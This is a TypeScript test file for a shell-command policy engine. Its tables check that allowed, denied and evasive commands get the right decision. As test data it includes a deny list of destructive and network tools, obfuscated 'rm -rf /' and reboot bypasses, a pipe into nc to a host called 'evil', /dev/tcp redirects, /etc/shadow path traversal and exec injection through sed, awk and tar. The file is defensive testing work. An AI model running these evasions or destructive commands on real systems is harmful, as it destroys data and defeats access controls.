/**
 * The policy decision, table-driven: a realistic policy modelled on the Python project's
 * example-policy.yml, ordinary operations under a read-only policy, and the constructs the
 * engine refuses (by construct name) or follows (commands inside commands).
 *
 * Decisions that changed with the parse → decide → print engine, and why:
 * - here-strings, subshells, brace expansion, `$'…'`, special parameters, `;;` are outside the
 *   subset: `unsupported_syntax:<construct>` instead of being read approximately;
 * - `allow_substitution` sends matching text unchecked (it cannot be parsed); deny rules then
 *   match anywhere in it;
 * - `/usr/bin/uptime` no longer borrows the rule for `uptime` (what a rule names is what runs);
 * - a shell with no script (`bash -s`) reads its program from stdin: `shell_from_stdin`;
 * - payloads hidden upstream of an explicitly trusted stdin shell are no longer guessed at.
 */
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS, policyFileSchema } from '../../../src/config/schema.js';
import { PolicyEngine, type PolicyTarget } from '../../../src/policy/engine.js';
import { lintPolicy } from '../../../src/policy/lint.js';
import { redactSecrets, redactWords } from '../../../src/telemetry/redact.js';

const policy = policyFileSchema.parse({
  limits: {
    max_seconds: 45,
    max_output_bytes: 500_000,
    deny_substrings: ['rm -rf /', 'mkfs ', 'dd if=/dev/zero', 'shutdown*', 'reboot', 'curl ', 'wget ', 'nc '],
  },
  rules: [
    {
      name: 'read-only',
      action: 'allow',
      commands: [
        'uptime*',
        'df -h*',
        'hostname',
        'whoami',
        'systemctl status *',
        'cat /var/log/*',
        'ls*',
        'echo *',
        'sleep *',
        'grep *',
      ],
    },
    { id: 'web-restart', action: 'allow', tags: ['web'], commands: ['systemctl restart nginx'] },
    { name: 'staging-sudo', action: 'allow', aliases: ['stg-*'], commands: ['sudo systemctl restart *'] },
    { action: 'allow', aliases: ['db-?'], commands: ['pg_isready*'] },
    { name: 'templating', action: 'allow', allow_substitution: true, commands: ['echo *', 'cat <<*'] },
    { name: 'no-rm', action: 'deny', commands: ['rm *', 'chmod 777*'] },
    { name: 'prod-no-sleep', action: 'deny', aliases: ['prod-*'], commands: ['sleep *'] },
    { name: 'web-no-stop', action: 'deny', tags: ['web'], commands: ['systemctl stop *'] },
    { name: 'shells', action: 'allow', commands: ['sh', 'bash -s', 'sh *.sh', 'sh -c *', 'sh <<<*'] },
    { name: 'trusted-stdin', action: 'allow', allow_substitution: true, commands: ['sh <<*', 'bash -s -- *'] },
  ],
  overrides: {
    tags: { production: { max_seconds: 30 }, longrun: { max_seconds: 180, task_result_ttl: 1800 } },
    aliases: { 'prod-web-1': { max_seconds: 20 } },
  },
});

const engine = new PolicyEngine(policy);
const dev: PolicyTarget = { alias: 'dev-1', tags: [] };
const web: PolicyTarget = { alias: 'prod-web-1', tags: ['web', 'production'] };
const stg: PolicyTarget = { alias: 'stg-app-1', tags: ['staging'] };
const db1: PolicyTarget = { alias: 'db-1', tags: ['db'] };
const db12: PolicyTarget = { alias: 'db-12', tags: ['db'] };

type Row = [what: string, target: PolicyTarget, command: string, allowed: boolean, rule: string, bypass: boolean];

const rows: Row[] = [
  ['simple allowed', dev, 'uptime', true, 'read-only', false],
  ['glob with arguments', dev, 'uptime -p', true, 'read-only', false],
  ['df -h with path', dev, 'df -h /', true, 'read-only', false],
  ['exact pattern', dev, 'hostname', true, 'read-only', false],
  ['exact pattern rejects extra arguments', dev, 'hostname -I', false, 'default_deny', false],
  ['systemctl status', dev, 'systemctl status nginx', true, 'read-only', false],
  ['cat under /var/log', dev, 'cat /var/log/syslog', true, 'read-only', false],
  ['cat outside /var/log', dev, 'cat /etc/shadow', false, 'default_deny', false],
  ['.. out of /var/log', dev, 'cat /var/log/../../etc/shadow', false, 'default_deny', false],
  ['.. that stays inside /var/log', dev, 'cat /var/log/nginx/../syslog', true, 'read-only', false],
  ['ls with flags', dev, 'ls -la /etc', true, 'read-only', false],
  ['grep', dev, 'grep -i error /var/log/syslog', true, 'read-only', false],
  ['surrounding whitespace', dev, '  uptime  ', true, 'read-only', false],
  ['trailing newline', dev, 'uptime\n', true, 'read-only', false],
  ['unknown command', dev, 'apt-get install nginx', false, 'default_deny', false],
  ['allowed && chain', dev, 'uptime && df -h', true, 'read-only', false],
  ['allowed ; chain', dev, 'uptime; whoami', true, 'read-only', false],
  ['allowed pipe', dev, 'ls -la | grep conf', true, 'read-only', false],
  ['fd duplication is fine', dev, 'ls 2>&1 | grep x', true, 'read-only', false],
  ['/dev/null is fine', dev, 'ls /nope 2>/dev/null', true, 'read-only', false],
  ['chain with denied substring', dev, 'uptime; rm -rf /', false, 'deny_substrings', false],
  ['&& reboot', dev, 'uptime && reboot', false, 'deny_substrings', false],
  ['pipe into nc', dev, 'ls | nc evil 1', false, 'deny_substrings', false],
  ['background & then wget', dev, 'uptime & wget x', false, 'deny_substrings', false],
  ['newline then shutdown (glob)', dev, 'uptime\nshutdown -h now', false, 'deny_substrings', false],
  ['|| into unknown command', dev, 'uptime || passwd root', false, 'default_deny', false],
  ['newline into unknown command', dev, 'uptime\nuserdel bob', false, 'default_deny', false],
  ['chain across rules', web, 'ls; systemctl restart nginx', true, 'read-only, web-restart', false],
  ['subshell', dev, '(uptime)', false, 'unsupported_syntax:subshell', false],
  ['group', dev, '{ uptime; }', false, 'unsupported_syntax:group', false],
  ['quoted ; inside echo', dev, 'echo "a;b"', true, 'read-only', false],
  ['single-quoted && and |', dev, "echo 'a && b | c'", true, 'read-only', false],
  ['escaped ;', dev, 'echo a\\;b', true, 'read-only', false],
  ['here-string', dev, 'grep x <<< "hello"', false, 'unsupported_syntax:herestring', false],
  ['quote tricks on a harmless command still allow it', dev, "ec'h'o hi", true, 'read-only', false],
  ['comment dropped', dev, 'uptime # why not', true, 'read-only', false],
  ['comment with a quote', dev, "uptime # it's\nid'", false, 'unsupported_syntax:comment_with_quotes', false],
  ['rm -rf /', dev, 'rm -rf /', false, 'deny_substrings', false],
  ['dd from /dev/zero', dev, 'dd if=/dev/zero of=/dev/sda', false, 'deny_substrings', false],
  ['mkfs', dev, 'mkfs /dev/sda1', false, 'deny_substrings', false],
  ['shutdown glob', dev, 'shutdown', false, 'deny_substrings', false],
  ['curl', dev, 'curl http://example.com', false, 'deny_substrings', false],
  ['substring is blunt', dev, 'grep reboot /var/log/syslog', false, 'deny_substrings', false],
  ['absolute path contains the text', dev, '/usr/sbin/reboot', false, 'deny_substrings', false],
  ['sudo reboot', dev, 'sudo reboot', false, 'deny_substrings', false],
  ['deny substrings are case-insensitive', dev, 'REBOOT', false, 'deny_substrings', false],
  ["empty quotes r''m", dev, "r''m -rf /", false, 'deny_substrings', true],
  ['double-quoted letter "r"m', dev, '"r"m -rf /', false, 'deny_substrings', true],
  ['tab instead of space', dev, 'rm\t-rf /', false, 'deny_substrings', true],
  ['repeated spaces', dev, 'rm  -rf   /', false, 'deny_substrings', true],
  ["re''boot", dev, "re''boot", false, 'deny_substrings', true],
  ["w'g'et", dev, "w'g'et http://x", false, 'deny_substrings', true],
  ['escaped n\\c', dev, 'n\\c evil 1', false, 'deny_substrings', true],
  ['second command obfuscated', dev, 'ls; r""eboot', false, 'deny_substrings', true],
  ['reboot hidden in sh -c', dev, "sh -c 're''boot'", false, 'deny_substrings', true],
  ['${IFS} read as the blank it splits on', dev, 'rm${IFS}-rf${IFS}/', false, 'deny_substrings', true],
  ['${IFS} inside an argument', dev, "rm -rf${IFS}'/'", false, 'deny_substrings', true],
  ['$IFS with an uppercase program', dev, 'RM -rf$IFS/ &', false, 'deny_substrings', true],
  ['${IFS} makes the program name computed', dev, 'l${IFS}s', false, 'unknown_program', false],
  ['brace expansion', dev, '{rm,-rf,/}', false, 'unsupported_syntax:brace_expansion', false],
  ["ANSI-C $'…'", dev, "$'\\x72\\x6d' -rf /", false, 'unsupported_syntax:ansi_c_quoting', false],
  ['positional parameters', dev, 'rm -rf $1/', false, 'unsupported_syntax:parameter_expansion', false],
  ['deny rule', dev, 'rm -r /tmp/x', false, 'no-rm', false],
  ['deny rule second pattern', dev, 'chmod 777 /etc/passwd', false, 'no-rm', false],
  ['deny rule in a later command', dev, 'uptime; rm -r /tmp/x', false, 'no-rm', false],
  ['deny rules are case-insensitive', dev, 'RM -r /tmp/x', false, 'no-rm', false],
  ['deny rule through absolute path', dev, '/bin/rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through ../ path', dev, '/usr/bin/../bin/rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through ./ path', dev, './rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through sudo', dev, 'sudo -u root rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through env and assignments', dev, 'env FOO=1 rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through timeout', dev, 'timeout 5 rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through nice', dev, 'nice -n 5 rm -r /tmp/x', false, 'no-rm', true],
  ['deny rule through bash -c', dev, "bash -c 'rm -r /tmp/x'", false, 'no-rm', true],
  ['deny rule through su --command', dev, "su --command 'rm -r /tmp/x' root", false, 'no-rm', true],
  ['su --command= attached is not read', dev, "su --command='rm -r /tmp/x' root", false, 'default_deny', false],
  ['deny rule through find -exec', dev, 'find /tmp -exec rm {} +', false, 'no-rm', true],
  ['deny rule through xargs', dev, 'ls | xargs rm', false, 'no-rm', true],
  ['xargs input completing a deny substring', dev, 'echo if=/dev/zero | xargs dd', false, 'deny_substrings', false],
  ['alias-scoped deny beats allow', web, 'sleep 5', false, 'prod-no-sleep', false],
  ['alias-scoped deny does not apply elsewhere', dev, 'sleep 5', true, 'read-only', false],
  ['tag-scoped deny', web, 'systemctl stop nginx', false, 'web-no-stop', false],
  ['tag-scoped deny elsewhere falls to default deny', dev, 'systemctl stop nginx', false, 'default_deny', false],
  ['$(...) without allow_syntax', dev, 'ls $(pwd)', false, 'unsupported_syntax:command_substitution', false],
  ['backticks', dev, 'ls `pwd`', false, 'unsupported_syntax:command_substitution', false],
  ['process substitution', dev, 'grep x <(ls)', false, 'unsupported_syntax:process_substitution', false],
  ['output process substitution', dev, 'ls >(cat)', false, 'unsupported_syntax:process_substitution', false],
  ['here-doc without a rule for it', dev, 'grep x <<EOF\nhello\nEOF', false, 'unsupported_syntax:heredoc', false],
  ['here-doc under allow_substitution: unchecked', dev, 'cat <<EOF\nhello\nEOF', true, 'templating', false],
  ['$(...) under allow_substitution: unchecked', dev, 'echo $(hostname)', true, 'templating', false],
  ['deny rules match anywhere in unchecked text', dev, 'echo $(rm -r /tmp/x)', false, 'no-rm', false],
  ['$(...) inside single quotes is literal', dev, "echo '$(id)'", true, 'read-only', false],
  ['arithmetic', dev, 'echo $((1+2))', false, 'unsupported_syntax:arithmetic', false],
  ['sh -c with a command string', dev, "ls | sh -c 'grep x'", true, 'read-only, shells', false],
  ['sh -c running what no rule allows', dev, "sh -c 'id'", false, 'default_deny', false],
  ['bash -s reads stdin', dev, 'bash -s', false, 'shell_from_stdin', false],
  ['pipe into a bare shell', dev, 'echo uptime | sh', false, 'shell_from_stdin', false],
  ['pipe into sh -c sh', dev, 'echo uptime | sh -c sh', false, 'shell_from_stdin', false],
  ['pipe into sh /dev/stdin', dev, 'echo uptime | sh /dev/stdin', false, 'shell_from_stdin', false],
  ['pipe into a shell inside sh -c', dev, 'sh -c "ls | sh"', false, 'shell_from_stdin', false],
  ['rule naming the stdin shell with allow_substitution', dev, 'ls /srv | bash -s -- web', true, 'read-only, trusted-stdin', false],
  ['a trusted stdin shell runs what it is fed', dev, 'echo rm -r /tmp/x | bash -s -- web', true, 'read-only, trusted-stdin', false],
  ['unterminated double quote', dev, 'echo "unterminated', false, 'parse_error', false],
  ['unterminated single quote', dev, "echo 'unterminated", false, 'parse_error', false],
  ['dangling &&', dev, 'uptime &&', false, 'parse_error', false],
  ['empty', dev, '', false, 'empty_command', false],
  ['whitespace only', dev, '  \t \n ', false, 'empty_command', false],
  ['comment only', dev, '# nothing', false, 'empty_command', false],
  ['case terminator', dev, ';;', false, 'unsupported_syntax:compound_command', false],
  ['NUL byte', dev, 'uptime\u0000', false, 'unsupported_syntax:control_character', false],
  ['carriage return', dev, 'uptime\r', false, 'unsupported_syntax:control_character', false],
  ['no-break space', dev, 'echo\u00a0hi', false, 'unsupported_syntax:non_ascii_space', false],
  ['bidi override', dev, 'echo \u202ehi', false, 'unsupported_syntax:invisible_character', false],
  ['allow rules are case-sensitive', dev, 'UPTIME', false, 'default_deny', false],
  ['a path does not borrow an allowed name', dev, '/usr/bin/uptime', false, 'default_deny', false],
  ['./ binary does not borrow an allowed name', dev, './uptime', false, 'default_deny', false],
  ['sudo is not stripped into an allowed command', dev, 'sudo uptime', false, 'default_deny', false],
  ['env is not stripped into an allowed command', dev, 'env LD_PRELOAD=/tmp/x.so uptime', false, 'default_deny', false],
  ['assignment prefix is not stripped', dev, 'FOO=bar uptime', false, 'default_deny', false],
  ['standalone assignment', dev, 'PATH=/tmp', false, 'unsupported_syntax:assignment', false],
  ['computed program name', dev, '$CMD x', false, 'unknown_program', false],
  ['glob program name', dev, '/usr/bin/upti* -p', false, 'unknown_program', false],
  ['tag-scoped allow on the right host (rule id)', web, 'systemctl restart nginx', true, 'web-restart', false],
  ['tag-scoped allow on the wrong host', dev, 'systemctl restart nginx', false, 'default_deny', false],
  ['alias glob stg-* with sudo named in the rule', stg, 'sudo systemctl restart app', true, 'staging-sudo', false],
  ['alias glob on a non-matching alias', dev, 'sudo systemctl restart app', false, 'default_deny', false],
  ['alias glob db-? (unnamed rule)', db1, 'pg_isready -h localhost', true, 'rules[3]', false],
  ['? matches exactly one character', db12, 'pg_isready -h localhost', false, 'default_deny', false],
  ['redirection writes are denied without write_paths', dev, 'echo hi > /tmp/x', false, 'write_denied', false],
  ['write to a dotfile', dev, 'echo "id" >> ~/.bashrc', false, 'write_denied', false],
  ['&> differs between dash and bash', dev, 'echo hi &> /tmp/x', false, 'unsupported_syntax:ampersand_redirect', false],
  ['>&file differs between dash and bash', dev, 'echo hi >& /tmp/x', false, 'unsupported_syntax:ampersand_redirect', false],
  ['multi-digit descriptor', dev, 'echo hi 10>/tmp/x', false, 'unsupported_syntax:fd_number', false],
  ['input redirection is a read', dev, 'grep x < /var/log/syslog', true, 'read-only', false],
]; // prettier-ignore

describe('PolicyEngine.decide — command table', () => {
  it('has a substantial table', () => {
    expect(rows.length).toBeGreaterThanOrEqual(100);
  });

  it.each(rows)('%s: %j', (_what, target, command, allowed, rule, bypass) => {
    const decision = engine.decide(target, command);
    expect({ allowed: decision.allowed, rule: decision.rule, bypass: decision.bypass !== undefined }).toEqual({
      allowed,
      rule,
      bypass,
    });
    expect(decision.reason.length).toBeGreaterThan(0);
    // A denial sends nothing; an allowed command always says what is sent.
    expect(decision.sent === undefined).toBe(!allowed);
  });
});

/** The issue's read-only policy: the shape a cautious operator writes. */
const readOnly = new PolicyEngine(
  policyFileSchema.parse({
    limits: { deny_substrings: ['rm -rf', 'reboot'] },
    rules: [
      {
        name: 'read-only',
        action: 'allow',
        commands: [
          'echo *', 'ls', 'ls *', 'cat /var/log/*', 'cat /etc/hosts', 'grep *', 'find *', 'tail *', 'head *', 'sed -n *',
          'awk *', 'tar -tf *', 'tar -tzf *', 'git log*', 'git -C * log*', 'sort', 'sort *', 'uniq*', 'wc*', 'cut *',
          'journalctl *', 'systemctl status *', 'systemctl list-units*', 'docker ps*', 'docker logs *', 'kubectl get *',
          'kubectl describe *', 'uptime*', 'df -h*', 'du -sh *', 'free*', 'ps *', 'id', 'whoami', 'hostname', 'date*',
          'stat *', 'file *', 'md5sum *', 'sha256sum *', 'ip addr*', 'ss -*', 'lsblk*', 'uname*', 'env', 'printenv*',
          'tr *', 'head', 'basename *', 'dirname *', 'readlink *', 'realpath *', 'less *', 'zcat *', 'xargs *', 'nice *',
          'timeout *', 'test *', 'true', 'false', 'pwd',
        ],
      },
      { name: 'no-rm', action: 'deny', commands: ['rm *'] },
    ],
  }),
); // prettier-ignore

const ordinary: string[] = [
  'ls', 'ls -la /var/log', 'ls -lh --time-style=long-iso /srv', 'cat /var/log/syslog', 'cat /etc/hosts',
  'grep -r error /var/log/nginx', 'grep -c "a;b" /var/log/app.log', "grep -E 'timeout|refused' /var/log/syslog",
  'grep -v "^#" /etc/hosts', 'find /var/log -name "*.log"', "find /var/log -name '*.gz' -mtime +7",
  'find /srv -type f -newer /srv/marker', 'find . -maxdepth 2 -type d', 'find /var/log -size +10M -print',
  'tail -n 100 /var/log/syslog', 'tail -f -n 0 /var/log/app.log', 'head -n 20 /var/log/dpkg.log', 'head -c 512 /etc/hosts',
  'sort /tmp/list', 'sort -u /tmp/list', 'sort -k2 -n /tmp/list | uniq -c', "awk '{print $1}' /var/log/access.log",
  "awk -F: '{print $1}' /etc/passwd", "awk '$9 >= 500 {c++} END {print c}' /var/log/access.log",
  "awk '{print $1}' /var/log/access.log | sort | uniq -c | sort -rn | head", "sed -n '1,5p' /etc/hosts",
  "sed -n '/error/p' /var/log/syslog", "sed -n '$p' /var/log/syslog", 'journalctl -u nginx --since today',
  'journalctl -u ssh -n 50 --no-pager', 'systemctl status nginx', 'systemctl list-units --failed', 'docker ps',
  'docker ps -a --format "{{.Names}}"', 'docker logs --tail 50 web', 'kubectl get pods -A', 'kubectl get deploy -n prod -o wide',
  'kubectl describe pod web-1', 'git log --oneline', 'git log --oneline -n 20', 'git -C /srv/app log -1 --format=%H',
  'tar -tf /backups/app.tar', 'tar -tzf /backups/app.tgz', 'uptime', 'df -h', 'df -h /var', 'du -sh /var/log',
  'free -m', 'ps aux', 'ps -ef | grep nginx', 'id', 'whoami', 'hostname', 'date -u', 'stat /etc/hosts',
  'file /bin/ls', 'sha256sum /etc/hosts', 'ip addr show', 'ss -tlnp', 'lsblk', 'uname -a', 'env', 'printenv HOME',
  'echo "$HOME"', 'echo $PATH', 'cat /var/log/*.log', 'ls /var/log/*.gz', 'wc -l /var/log/syslog', 'cut -d: -f1 /etc/passwd',
  "tr -d '\\r' < /etc/hosts", 'basename /var/log/syslog', 'uptime && df -h', 'ls /srv || echo missing',
  'ls /nonexistent 2>/dev/null; echo done', 'grep x /var/log/syslog 2>&1 | head', 'zcat /var/log/syslog.2.gz | grep error',
  'find /var/log -name "*.log" | xargs grep -l error', 'nice -n 10 grep -r error /var/log', 'timeout 10 ls /srv',
  'test -f /etc/hosts && echo yes', 'pwd', 'ls ~', 'ls ~/logs', 'echo done # a comment',
]; // prettier-ignore

describe('ordinary operations stay allowed under a read-only policy', () => {
  it('has at least 60 of them', () => expect(ordinary.length).toBeGreaterThanOrEqual(60));
  it.each(ordinary)('%s', (command) => {
    const decision = readOnly.decide(dev, command);
    expect(decision, decision.reason).toMatchObject({ allowed: true });
    expect(decision.sent).toBeDefined();
  });
});

/** Constructs an attacker reaches for; each is refused whatever it carries. */
const refusedUnderReadOnly: [string, string][] = [
  ['echo "${x:-$(touch /tmp/m)}"', 'unsupported_syntax:parameter_expansion'],
  ['echo "${x:-`touch /tmp/m`}"', 'unsupported_syntax:parameter_expansion'],
  ['echo "$(touch /tmp/m)"', 'unsupported_syntax:command_substitution'],
  ['echo "${x:-"$(touch /tmp/m)"}"', 'unsupported_syntax:parameter_expansion'],
  ['echo ${x@P}', 'unsupported_syntax:parameter_expansion'],
  ['echo ${a[$(touch /tmp/m)]}', 'unsupported_syntax:parameter_expansion'],
  ['echo ${!x}', 'unsupported_syntax:parameter_expansion'],
  ['echo $((a[$(id)]))', 'unsupported_syntax:arithmetic'],
  ["echo x # it's a trap\ntouch /tmp/m #'", 'unsupported_syntax:comment_with_quotes'],
  ['echo x &>/tmp/m', 'unsupported_syntax:ampersand_redirect'],
  ["echo $'\\x27'; touch /tmp/m", 'unsupported_syntax:ansi_c_quoting'],
  ['echo x > ~/.bashrc', 'write_denied'],
  ['echo x >> /tmp/m', 'write_denied'],
  ['ls > /tmp/m', 'write_denied'],
  ['cat /var/log/x <> /tmp/m', 'write_denied'],
  ['find . -exec touch /tmp/m \\;', 'default_deny'],
  ['find . -execdir sh -c "touch /tmp/m" \\;', 'default_deny'],
  ['find . -exec nice touch /tmp/m \\;', 'default_deny'],
  ['find /tmp -delete', 'write_denied'],
  ['find . -fprint /tmp/m', 'write_denied'],
  ['nice touch /tmp/m', 'default_deny'],
  ['timeout 5 sh -c "touch /tmp/m"', 'default_deny'],
  ['xargs touch < /var/log/x', 'default_deny'],
  ["sed -n 'e touch /tmp/m' /etc/hosts", 'exec_option'],
  ["sed -n '1e touch /tmp/m' /etc/hosts", 'exec_option'],
  ["sed -n 's/x/touch \\/tmp\\/m/e' /etc/hosts", 'exec_option'],
  ["sed -n 'w /tmp/m' /etc/hosts", 'write_denied'],
  ['sed -n -i 1p /etc/hosts', 'write_denied'],
  ["awk 'BEGIN {system(\"touch /tmp/m\")}'", 'exec_option'],
  ["awk '{print | \"sh\"}' /etc/hosts", 'exec_option'],
  ["awk '{print > \"/tmp/m\"}' /etc/hosts", 'write_denied'],
  ['tar -tf x.tar --checkpoint=1 --checkpoint-action=exec="touch /tmp/m"', 'exec_option'],
  ['tar -tf x.tar --to-command="touch /tmp/m"', 'exec_option'],
  ['tar -tf *', 'unknown_argument'],
  ['sort -o /tmp/m /etc/hosts', 'write_denied'],
  ['sort --output=/tmp/m /etc/hosts', 'write_denied'],
  ['git log --output=/tmp/m', 'write_denied'],
  ['cat /var/log/../../etc/shadow', 'default_deny'],
  ['cat /var/log/../../../etc/shadow', 'default_deny'],
  ['echo x | sh', 'shell_from_stdin'],
  ["test -v 'a[$(touch /tmp/m)]'", 'exec_option'],
  ["test -v 'a[`touch /tmp/m`]'", 'exec_option'],
  ['cat /var/log/x < /dev/tcp/127.0.0.1/80', 'unsupported_syntax:network_redirect'],
  ['echo x > /dev/udp/127.0.0.1/53', 'unsupported_syntax:network_redirect'],
  ['grep x < $F', 'unknown_argument'],
  ['echo x > /tmp/*.log', 'unknown_argument'],
  ['ls | xargs sh -c "touch /tmp/m"', 'default_deny'],
]; // prettier-ignore

describe('what a hostile client reaches for is refused, by construct', () => {
  it.each(refusedUnderReadOnly)('%s → %s', (command, rule) => {
    const decision = readOnly.decide(dev, command);
    expect({ allowed: decision.allowed, rule: decision.rule }, decision.reason).toEqual({ allowed: false, rule });
  });
});

describe('commands inside commands', () => {
  const with_ = (rules: unknown[]): PolicyEngine => new PolicyEngine(policyFileSchema.parse({ rules }));

  it('a wildcard never admits a program; a literal name does, alone or spelled out after the wrapper', () => {
    const sudoStar = with_([{ name: 's', action: 'allow', commands: ['sudo *'] }]);
    expect(sudoStar.decide(dev, 'sudo systemctl restart nginx')).toMatchObject({
      allowed: false,
      rule: 'default_deny',
    });
    const spelled = with_([{ name: 's', action: 'allow', commands: ['sudo systemctl restart *'] }]);
    expect(spelled.decide(dev, 'sudo systemctl restart nginx')).toMatchObject({ allowed: true, rule: 's' });
    expect(spelled.decide(dev, 'sudo systemctl stop nginx')).toMatchObject({ allowed: false });
    const alone = with_([
      { name: 's', action: 'allow', commands: ['sudo *'] },
      { name: 'sys', action: 'allow', commands: ['systemctl restart *'] },
    ]);
    expect(alone.decide(dev, 'sudo systemctl restart nginx')).toMatchObject({ allowed: true, rule: 's, sys' });
    const catchAll = with_([{ name: 'all', action: 'allow', commands: ['*'] }]);
    expect(catchAll.decide(dev, 'nice touch x')).toMatchObject({ allowed: false, rule: 'default_deny' });
    expect(catchAll.decide(dev, 'touch x')).toMatchObject({ allowed: true });
    const findAndTouch = with_([{ name: 'f', action: 'allow', commands: ['find *', 'touch /tmp/*'] }]);
    expect(findAndTouch.decide(dev, 'find /tmp -name x -exec touch /tmp/y \\;')).toMatchObject({ allowed: true });
    expect(findAndTouch.decide(dev, 'find /tmp -name x -exec touch /etc/y \\;')).toMatchObject({ allowed: false });
  });

  it('a prefix that stops inside the program name does not name it', () => {
    const partial = with_([{ name: 'p', action: 'allow', commands: ['sudo sys*'] }]);
    expect(partial.decide(dev, 'sudo systemctl restart x')).toMatchObject({ allowed: false, rule: 'default_deny' });
  });

  it('re-prints sh -c scripts so the inner shell reads what was checked', () => {
    const shells = with_([{ name: 'sh', action: 'allow', commands: ['sh -c *', 'ls *', 'grep *'] }]);
    const decision = shells.decide(dev, `sh -c "ls   '/srv'|grep   x # note"`);
    expect(decision).toMatchObject({ allowed: true, sent: "sh -c 'ls /srv | grep x'" });
    expect(decision.programs).toEqual(['sh', 'ls', 'grep']);
  });

  it('reports every program and write, nested ones included', () => {
    const p = with_([
      { name: 'r', action: 'allow', commands: ['find *', 'grep *', 'echo *'], write_paths: ['/tmp/out/*'] },
    ]);
    const decision = p.decide(dev, 'find . -exec grep -l x {} + > /tmp/out/list; echo ok');
    expect(decision).toMatchObject({ allowed: true, programs: ['find', 'grep', 'echo'], writes: ['/tmp/out/list'] });
    expect(p.decide(dev, 'echo x > /tmp/out/../../etc/cron.d/x')).toMatchObject({
      allowed: false,
      rule: 'write_denied',
    });
  });

  it('exec-capable options of a program a rule allows are refused', () => {
    const git = with_([{ name: 'g', action: 'allow', commands: ['git *'] }]);
    expect(git.decide(dev, 'git -c core.pager="touch /tmp/m" log')).toMatchObject({
      allowed: false,
      rule: 'exec_option',
    });
    expect(git.decide(dev, 'git log --oneline')).toMatchObject({ allowed: true });
  });

  it('write_paths may name paths under the login home as ~/…', () => {
    const home = with_([{ name: 'h', action: 'allow', commands: ['echo *'], write_paths: ['~/out/*'] }]);
    expect(home.decide(dev, 'echo x > ~/out/f')).toMatchObject({ allowed: true, writes: ['~/out/f'] });
    expect(home.decide(dev, 'echo x > ~/.bashrc')).toMatchObject({ allowed: false, rule: 'write_denied' });
    expect(home.decide(dev, 'echo x > ~/out/../.bashrc')).toMatchObject({ allowed: false, rule: 'write_denied' });
  });

  it('allow_exec opts in for programs named literally only', () => {
    const exec = with_([
      { name: 'py', action: 'allow', allow_exec: true, commands: ['python3 -c *'] },
      { name: 'all', action: 'allow', allow_exec: true, commands: ['*'] },
    ]);
    expect(exec.decide(dev, "python3 -c 'print(1)'")).toMatchObject({ allowed: true, rule: 'py' });
    expect(exec.decide(dev, "perl -e 'print 1'")).toMatchObject({ allowed: false, rule: 'exec_option' });
  });
});

describe('decision details', () => {
  it('sends the canonical print, and says what it checked', () => {
    const decision = engine.decide(dev, "uptime &&  l's' -la | grep\tconf");
    expect(decision.segments).toEqual(['uptime', 'ls -la', 'grep conf']);
    expect(decision.sent).toBe('uptime && ls -la | grep conf');
  });

  it('reports the bypass with the original, the parsed form and the pattern', () => {
    const decision = engine.decide(dev, "r''m -rf /");
    expect(decision.bypass).toEqual({
      original_command: "r''m -rf /",
      normalized_command: 'rm -rf /',
      blocked_pattern: 'rm -rf /',
      words: ['rm', '-rf', '/'],
    });
  });

  it('a quoted secret with spaces cannot leak through the redacted reason or parsed form', () => {
    // Only the quote-removed form contains the deny substring here (the quotes split it).
    const decision = engine.decide(dev, `DB_PASS="q zqx9" 'rm -rf' /`);
    expect(decision.rule).toBe('deny_substrings');
    expect(redactSecrets(decision.reason)).not.toContain('zqx9');
    expect(redactWords(decision.bypass?.words ?? []).join(' ')).not.toContain('zqx9');
  });

  it('names the deny rule glob as the blocked pattern', () => {
    const decision = engine.decide(dev, '/bin/rm -r /tmp/x');
    expect(decision.bypass).toMatchObject({ normalized_command: 'rm -r /tmp/x', blocked_pattern: 'rm *' });
  });

  it('names the command that no rule allows', () => {
    expect(engine.decide(dev, 'uptime; passwd root').reason).toContain("'passwd root'");
  });

  it('denies everything when there are no rules', () => {
    expect(new PolicyEngine(policyFileSchema.parse({})).decide(dev, 'uptime')).toMatchObject({ allowed: false, rule: 'default_deny' });
  });

  it('marks text sent under allow_syntax as unchecked', () => {
    const decision = engine.decide(dev, 'echo $(hostname)');
    expect(decision).toMatchObject({ allowed: true, unchecked: true, sent: 'echo $(hostname)' });
  });

  it('is pure: the same input gives the same decision', () => {
    expect(engine.decide(web, 'ls; systemctl restart nginx')).toEqual(engine.decide(web, 'ls; systemctl restart nginx'));
  });
}); // prettier-ignore

describe('policy.yml rule keys', () => {
  it('refuses a rule named like a built-in code', () => {
    for (const name of ['default_deny', 'unsupported_syntax:heredoc', 'write_denied']) {
      const parsed = policyFileSchema.safeParse({ rules: [{ name, action: 'allow', commands: ['x'] }] });
      expect(parsed.success, name).toBe(false);
    }
  });

  it('refuses allow-only keys on deny rules', () => {
    expect(policyFileSchema.safeParse({ rules: [{ action: 'deny', commands: ['x'], write_paths: ['/tmp/*'] }] }).success).toBe(false);
  });

  it('refuses unknown constructs in allow_syntax', () => {
    expect(policyFileSchema.safeParse({ rules: [{ action: 'allow', commands: ['x'], allow_syntax: ['eval'] }] }).success).toBe(false);
  });
}); // prettier-ignore

describe('a variable the command line sets and expands', () => {
  // Allows every command: only this check stands between the payload and the host.
  const open = new PolicyEngine(
    policyFileSchema.parse({
      limits: { deny_substrings: ['rm -rf /'] },
      rules: [{ name: 'anything', action: 'allow', commands: ['*'] }],
    }),
  );
  const target = { alias: 'dev-1', tags: [] };
  it.each([
    ["export X=' /'; rm -rf$X", '$X'],
    ["export X=' /'; sh -c 'rm -rf$X'", '$X'],
    ["X=' /' sh -c 'rm -rf$X'", '$X'],
    ['read X; rm -rf $X', '$X'],
    ['cd /; rm -rf $PWD', '$PWD'],
    ["printf -v X ' /'; rm -rf$X", '$X'],
    ['declare -x X=/ && echo $X', '$X'],
  ])("%s is refused: its value is the client's own text, past the checks", (command, name) => {
    const d = open.decide(target, command);
    expect({ allowed: d.allowed, rule: d.rule }).toEqual({ allowed: false, rule: 'unsupported_syntax:assignment' });
    expect(d.reason).toContain(`expands ${name}`);
  });
  it.each(['export LANG=C; uptime', 'echo $HOME', 'cd /tmp && ls', 'read X'])('%s is not concerned', (command) => {
    expect(open.decide(target, command).allowed).toBe(true);
  });
});

describe('lintPolicy (check)', () => {
